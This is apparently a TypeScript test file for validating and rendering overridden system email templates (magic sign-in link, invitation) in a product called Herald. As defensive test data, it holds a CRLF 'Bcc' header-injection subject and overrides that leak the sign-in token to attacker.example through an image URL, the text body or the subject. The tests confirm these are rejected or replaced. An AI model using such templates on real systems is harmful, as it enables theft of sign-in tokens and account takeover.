import { ValidationFailed } from '@herald/errors';
import { renderSystemEmail } from './built-in-templates';
import { checkOverride, checkPreviewValues } from './system-template.rules';

function issuesOf(fn: () => unknown) {
  try {
    fn();
  } catch (err) {
    if (err instanceof ValidationFailed) return err.issues;
    throw err;
  }
  throw new Error('expected a ValidationFailed');
}

describe('checkOverride', () => {
  it('when a replacement uses the link and known variables, then it is kept as given, left-out parts null', () => {
    expect(checkOverride('auth.magic_link', { body: '<a href="{{ link }}">go</a> within {{minutes}} min' })).toEqual({
      subject: null,
      body: '<a href="{{ link }}">go</a> within {{minutes}} min',
      text_body: null,
    });
  });

  it('when the body lacks {{link}}, then 422 names body', () => {
    expect(issuesOf(() => checkOverride('auth.magic_link', { body: '<p>Hello</p>' }))).toEqual([
      { loc: ['body', 'body'], msg: 'body must use {{link}}: the email is useless without it', type: 'value_error' },
    ]);
  });

  it('when a given text body lacks {{link}}, then 422 names text_body', () => {
    const issues = issuesOf(() => checkOverride('organization.invitation', { body: '{{link}}', text_body: 'Join {{organization}}' }));
    expect(issues.map((i) => i.loc)).toEqual([['body', 'text_body']]);
  });

  it('when a part uses a variable the template does not have, then 422 names that part and lists the ones it has', () => {
    const issues = issuesOf(() => checkOverride('auth.magic_link', { subject: 'Hi {{user.name}}', body: '{{link}}' }));
    expect(issues).toEqual([
      {
        loc: ['body', 'subject'],
        msg: '{{user.name}} is not a variable of auth.magic_link; it has {{link}}, {{minutes}}',
        type: 'value_error',
      },
    ]);
  });

  it('when a part does not parse, then 422 names it with the parser message', () => {
    const issues = issuesOf(() => checkOverride('auth.magic_link', { body: '{{link}} {{ 1 + 1 }}' }));
    expect(issues[0]).toMatchObject({ loc: ['body', 'body'], msg: expect.stringMatching(/is not a variable/) });
  });

  it('when the subject has a line break, then 422 names subject (no header injection)', () => {
    const issues = issuesOf(() => checkOverride('auth.magic_link', { subject: 'a\r\nBcc: x@example.com', body: '{{link}}' }));
    expect(issues).toEqual([{ loc: ['body', 'subject'], msg: 'subject must be one line', type: 'value_error' }]);
  });

  it('when text holds NUL, then 422 names the field instead of failing in the database', () => {
    const issues = issuesOf(() => checkOverride('auth.magic_link', { body: '{{link}}\u0000' }));
    expect(issues[0].loc).toEqual(['body', 'body']);
  });
});

describe('checkPreviewValues', () => {
  it('when a value names no variable of the template, then 422 names it', () => {
    const issues = issuesOf(() => checkPreviewValues('auth.magic_link', { link: 'x', lnik: 'y' }));
    expect(issues.map((i) => i.loc)).toEqual([['body', 'variables', 'lnik']]);
  });
});

describe('renderSystemEmail', () => {
  const values = { link: 'https://app.example/auth/verify?token=a&b', minutes: 15 };

  it('when a replacement is given, then it renders with the link escaped in HTML and as given in text made from the HTML', () => {
    const email = renderSystemEmail('auth.magic_link', values, { subject: null, body: '<a href="{{link}}">In</a>', text_body: null });
    expect(email.subject).toBe('Your Herald sign-in link');
    expect(email.html).toBe('<a href="https://app.example/auth/verify?token=a&amp;b">In</a>');
    expect(email.text).toContain('https://app.example/auth/verify?token=a&b');
  });

  it('when a replacement stored before the link rule sends the link elsewhere, then the built-in one goes out', () => {
    const leaky = [
      { subject: null, body: '<a href="{{link}}">In</a><img src="https://attacker.example/p.gif?t={{link}}">', text_body: null },
      { subject: null, body: '<a href="{{link}}">In</a>', text_body: 'https://attacker.example/?t={{link}}' },
      { subject: 'Link: {{link}}', body: '<a href="{{link}}">In</a>', text_body: null },
    ];
    for (const override of leaky) {
      const email = renderSystemEmail('auth.magic_link', values, override);
      expect(email.html).toContain('Sign in to Herald');
      expect(JSON.stringify(email)).not.toContain('attacker.example');
      expect(email.subject).toBe('Your Herald sign-in link');
    }
  });

  it('when a stored replacement no longer renders, then the built-in one goes out instead of failing the sign-in', () => {
    const email = renderSystemEmail('auth.magic_link', values, { subject: null, body: '{{link}} {{gone}}', text_body: null });
    expect(email.html).toContain('Sign in to Herald');
  });
});
